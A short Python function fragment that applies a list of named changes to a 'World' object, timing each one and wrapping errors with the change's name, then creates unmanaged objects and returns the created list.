    """Makes every change, then the unmanaged objects; the latter's list."""
    world = World(state, url)
    for entry in CHANGES:
        started = time.monotonic()
        try:
            entry["function"](world)
        except Exception as error:
            raise RuntimeError(f"change {entry['name']}: {error}") from error
        entry["seconds"] = time.monotonic() - started
    create_unmanaged(world)
    return world.created
